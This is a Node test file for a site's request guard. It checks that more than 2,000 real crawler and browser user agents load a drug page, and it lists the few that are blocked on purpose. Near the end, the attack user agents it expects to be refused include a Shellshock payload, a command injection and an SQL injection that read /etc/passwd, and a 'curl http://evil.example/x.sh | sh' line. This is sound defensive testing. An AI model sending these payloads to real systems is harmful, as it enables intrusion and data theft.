import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import crawlers from 'crawler-user-agents';
import desktop from 'top-user-agents/desktop';
import mobile from 'top-user-agents/mobile';
import { startTestServer } from '../../src/testing/test-server.ts';

/**
 * Published user agents of real clients: search engines and other crawlers (crawler-user-agents,
 * some 2,100 strings seen in the wild) and the most common browsers (top-user-agents). A search
 * engine the guard turns away cannot list the site, so the people searching never find it.
 */

/**
 * Still blocked, knowingly: each of these has the shape of an attack in a place the guard judges
 * strictly (outside the user agent's comments), and none is a search engine people use.
 */
const ACCEPTED = new Map<string, string>([
  ["'Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)'", 'wrapped in quotes as recorded; DuckDuckBot itself sends no quotes and passes'],
  ["Friendica 'The Tazmans Flax-lily' 2019.01-1293; https://hoyer.xyz", 'a quoted release name outside any comment'],
  ['CC Metadata Scaper http://wiki.creativecommons.org/Metadata_Scraper', 'starts with "cc", a compiler, followed by arguments'],
  ['Mozilla/5.0 (compatible; Qwantify/2.0n; +https://www.qwant.com/)/*', 'ends with "/*", an SQL comment opener'],
  ['Centro Ads.txt Crawler/1.0', 'names a .txt file outside any comment'],
  ['HanaleiBot runid=beta-stage-integration-test', 'an assignment outside any comment'],
  ['Gulper Web Bot 0.2.4 (www.ecsl.cs.sunysb.edu/~maxim/cgi-bin/Link/GulperBot)', 'a cgi-bin path under a home directory'],
]);
const isGettHit = (ua: string) => ua.startsWith('www.GettHIT.com | Free Traffic Exchange Bot'); // a traffic-exchange spam bot, in pipes

describe('real crawlers and browsers are not blocked', () => {
  it('every published crawler and common browser user agent gets the drug page, but for attack tools and the accepted few', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    const agents = [...new Set([...crawlers.flatMap((c) => c.instances), ...desktop, ...mobile])];
    assert.ok(agents.length > 2000, `${agents.length} user agents`);

    const unexpected: string[] = [];
    let scanners = 0;
    for (const ua of agents) {
      const logged = server.logLines.length;
      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
      await response.arrayBuffer();
      if (response.status === 200) continue;
      const block = server.logLines.slice(logged).find((line) => line.includes('"guard block"'));
      const rules = block ? (JSON.parse(block) as { rules: string[] }).rules : [];
      // Attack tools listed among the crawlers (Nikto, sqlmap, OpenVAS…) are meant to be refused.
      if (rules.includes('scanner-user-agent')) scanners++;
      else if (!ACCEPTED.has(ua) && !isGettHit(ua)) unexpected.push(`${response.status} ${rules.join('+')}: ${ua}`);
    }
    assert.deepEqual(unexpected, [], 'no other crawler or browser is blocked');
    assert.ok(scanners >= 3, 'the attack tools among them are still refused');
  });

  it('the user agents that used to be blocked: Bing, DuckDuckGo, Google Feedfetcher, Majestic, Internet Explorer on a touch screen', async (t) => {
    const server = await startTestServer();
    t.after(() => server.close());
    for (const ua of [
      'DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)',
      'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm',
      'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 530) like Gecko (compatible; adidxbot/2.0; +http://www.bing.com/bingbot.htm)',
      'Feedfetcher-Google; (+http://www.google.com/feedfetcher.html; 1 subscribers; feed-id=728742641706423)',
      'Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)',
      'MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)',
      'Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko',
    ]) {
      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
      await response.arrayBuffer();
      assert.equal(response.status, 200, ua);
    }
    // And attacks in the same header still are.
    for (const ua of ['() { :; }; /bin/bash -c "cat /etc/passwd"', 'Mozilla/5.0; cat /etc/passwd', "Mozilla/5.0' OR 1=1--", 'sqlmap/1.7 (https://sqlmap.org)', 'curl http://evil.example/x.sh | sh']) {
      const response = await server.get('/drugs/baclofen', { headers: { 'user-agent': ua } });
      await response.arrayBuffer();
      assert.equal(response.status, 403, ua);
    }
  });
});
